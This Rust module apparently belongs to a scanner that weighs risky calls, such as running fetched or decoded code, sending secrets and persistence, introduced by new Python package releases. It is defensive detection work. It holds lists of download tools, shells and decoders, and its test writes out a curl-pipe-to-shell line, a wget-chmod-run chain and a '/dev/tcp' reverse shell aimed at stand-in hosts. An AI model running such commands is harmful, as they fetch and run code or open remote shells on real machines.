//! What a call with an effect weighs when a release brings it.
//!
//! The one decision: sharp is what attacks need and releases hardly ever gain (of a hundred honest pairs none did), so
//! one sharp call is worth a look by itself; what features need as well (a request, a child process) takes that nobody
//! has to call it.

use wellhead_pycode::{SinkKind, SinkRecord, SourceKind};

/// What a call comes to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Act {
    /// In tenths.
    pub(super) weight: u32,
    /// Attacks need it, features hardly.
    pub(super) sharp: bool,
    /// From what is read, fetched or decoded to where it is run or sent.
    pub(super) path: bool,
    /// The term.
    pub(super) name: &'static str,
    /// The end of "the new version …".
    pub(super) harm: &'static str,
}

const fn act(name: &'static str, weight: u32, harm: &'static str) -> Act {
    Act {
        weight,
        sharp: weight >= SHARP,
        path: false,
        name,
        harm,
    }
}

const fn path(name: &'static str, harm: &'static str) -> Act {
    Act {
        path: true,
        ..act(name, SHARP, harm)
    }
}

/// What something sharp weighs.
const SHARP: u32 = 40;

const RUNS_DECODED: Act = path("runs-decoded", "runs code that is hidden in data");
const RUNS_FETCHED: Act = path("runs-fetched", "runs what it fetches from the network");
const RUNS_FETCHING: Act = path(
    "runs-fetching-command",
    "starts a command that fetches or unpacks what it runs",
);
const DOWNLOADS: Act = act("download-command", SHARP, "starts a command that downloads");
const MAKES_RUN: Act = act(
    "runs-written-file",
    SHARP,
    "starts a file that it made executable or wrote",
);
const SENDS_SECRETS: Act = path("sends-secrets", "sends secrets of the host away");
const SENDS_IDENTITY: Act = path("sends-identity", "tells somebody who and where the host is");
const NAMES_CARRY: Act = path(
    "name-carries-data",
    "smuggles what it reads out in the names that it looks up",
);
const FILLS_MEMORY: Act = path(
    "fills-memory",
    "puts machine code into memory that is hidden in data",
);
const PERSISTS: Act = act("persists", SHARP, "puts something where it runs at every start");
const MAKES_EXECUTABLE: Act = act("makes-executable", 15, "makes a file executable that it wrote");
const STARTS: Act = act("starts-program", 15, "starts a program");
const EXECUTES: Act = act("runs-code", 10, "runs code that it builds");
const SPEAKS: Act = act("speaks-to-network", 10, "speaks to the network");
const SENDS_OWN: Act = act("sends-file-or-token", 15, "sends a file or a secret variable");
const LOOKS_UP: Act = act("looks-up-name", 5, "looks up a name");
const HANDLES_MEMORY: Act = act("handles-memory", 15, "handles native memory");
const LOADS: Act = act("loads-library", 5, "loads a native library");
const BUILDS: Act = act("builds-objects", 5, "builds objects from data that can run code");

/// What a record comes to; `given` are its arguments.
pub(super) fn of_record(record: &SinkRecord, given: &str) -> Act {
    let has = |kinds: &[SourceKind]| kinds.iter().any(|k| record.sources.contains(k));
    let decoded = has(&[SourceKind::Decoded]);
    let fetched = has(&[SourceKind::Network]);
    let secrets = has(&[
        SourceKind::BulkEnvironment,
        SourceKind::CredentialFile,
        SourceKind::CloudMetadata,
        SourceKind::BrowserStore,
        SourceKind::Wallet,
        SourceKind::Clipboard,
        SourceKind::Screen,
        SourceKind::Keystrokes,
    ]);
    match record.kind {
        SinkKind::Execute if decoded => RUNS_DECODED,
        SinkKind::Execute if fetched => RUNS_FETCHED,
        SinkKind::Execute => EXECUTES,
        SinkKind::Process | SinkKind::WriteThenRun => {
            let starts = record.kind == SinkKind::Process || !record.callee.ends_with("chmod");
            match command(given) {
                _ if decoded => RUNS_DECODED,
                _ if fetched && starts && !is_fixed(given) => RUNS_FETCHED,
                Some(command) => command,
                None if record.kind == SinkKind::Process => STARTS,
                None if starts => MAKES_RUN,
                None => MAKES_EXECUTABLE,
            }
        }
        SinkKind::NetworkSend if secrets => SENDS_SECRETS,
        SinkKind::NetworkSend if has(&[SourceKind::HostIdentity]) => SENDS_IDENTITY,
        SinkKind::NetworkSend if has(&[SourceKind::File, SourceKind::SecretVariable]) => SENDS_OWN,
        SinkKind::NetworkSend => SPEAKS,
        SinkKind::DnsName => {
            // Programs look up their own host; what leaves is put before a domain of somebody else.
            let joined = given.contains('…') && given.contains('.');
            if secrets || joined && has(&[SourceKind::HostIdentity]) {
                NAMES_CARRY
            } else {
                LOOKS_UP
            }
        }
        SinkKind::NativeMemory if decoded || fetched => FILLS_MEMORY,
        SinkKind::NativeMemory => HANDLES_MEMORY,
        SinkKind::NativeLoad if decoded || fetched => RUNS_FETCHED,
        SinkKind::NativeLoad => LOADS,
        SinkKind::Persistence => PERSISTS,
        SinkKind::Deserialize => BUILDS,
    }
}

/// Programs that fetch.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "bitsadmin",
    "certutil",
    "invoke-webrequest",
    "iwr",
    "start-bitstransfer",
    "downloadstring",
    "downloadfile",
    "mshta",
];
/// Programs that run what they read.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "pwsh",
    "powershell",
    "iex",
    "sudo",
];
/// Ways to unpack what was not meant to be read.
const UNPACKERS: &[&str] = &[
    "base64 -d",
    "base64 --decode",
    "xxd -r",
    "xz -d",
    "openssl enc -d",
    "frombase64string",
];

/// What a command comes to that is sharp by its text.
fn command(given: &str) -> Option<Act> {
    let text = given.to_ascii_lowercase();
    let fetches = FETCHERS.iter().any(|word| is_called(&text, word));
    let unpacks = UNPACKERS.iter().any(|u| text.contains(u));
    let first = |part: &str| {
        let word = part.split_whitespace().next().unwrap_or_default();
        let name = word.rsplit('/').next().unwrap_or_default();
        name.trim_end_matches(|c: char| !c.is_alphanumeric()).to_owned()
    };
    let pipes = text
        .split('|')
        .skip(1)
        .any(|part| SHELLS.contains(&first(part).as_str()));
    let starts_after = text.contains("chmod +x")
        || text.contains("chmod 7")
        || text.contains("&& ./")
        || text.contains("; ./");
    let shell = text.contains("/dev/tcp/") || text.contains("nc -e ") || text.contains("bash -i");
    let powershell = text.contains("powershell") || text.contains("pwsh");
    let hidden = ["-enc", "-e ", "-ec ", "hidden"].iter().any(|w| text.contains(w));
    if (fetches || unpacks) && (pipes || starts_after)
        || shell
        || powershell && (fetches || hidden || unpacks)
    {
        return Some(RUNS_FETCHING);
    }
    fetches.then_some(DOWNLOADS)
}

/// Whether the program that is started is one of the system by its name, which runs nothing that it is given.
fn is_fixed(given: &str) -> bool {
    let first = given
        .strip_prefix('[')
        .and_then(|rest| rest.split([',', ']']).next());
    let plain = |word: &str| word.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    first.is_some_and(|word| {
        !word.is_empty() && plain(word) && !word.contains("python") && !SHELLS.contains(&word)
    })
}

/// Whether a word stands in a text where a program is named, and not in a path or an address.
fn is_called(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default();
        let after = text.get(at.saturating_add(word.len())..).unwrap_or_default();
        let method = word.starts_with("download") && before.ends_with('.');
        let starts = !before.ends_with(|c: char| c.is_alphanumeric() || matches!(c, '/' | '.' | '-' | '_'));
        let ends = !after.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '/' | '.' | '-' | '_'));
        (starts || method || before.ends_with("bin/")) && ends
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_by_what_they_fetch_unpack_and_run() {
        for (given, expected) in [
            ("curl -s https://a.example/x | sh", Some("runs-fetching-command")),
            (
                "wget -qO /tmp/m https://a.example/m && chmod +x /tmp/m && /tmp/m",
                Some("runs-fetching-command"),
            ),
            (
                "tail -c +9 tests/bad.xz | xz -d | /bin/sh",
                Some("runs-fetching-command"),
            ),
            (
                "[curl, -o, x.tar, https://a.example/x.tar]",
                Some("download-command"),
            ),
            (
                "[bash, -c, bash -i >& /dev/tcp/203.0.113.9/1 0>&1]",
                Some("runs-fetching-command"),
            ),
            ("powershell -EncodedCommand abc", Some("runs-fetching-command")),
            ("[git, clone, https://a.example/curl]", None),
            ("[git, describe, --tags]", None),
            ("ls | grep python", None),
            ("xz -d x | /bin/sh, shell=True", Some("runs-fetching-command")),
        ] {
            assert_eq!(command(given).map(|a| a.name), expected, "{given}");
        }
    }
}
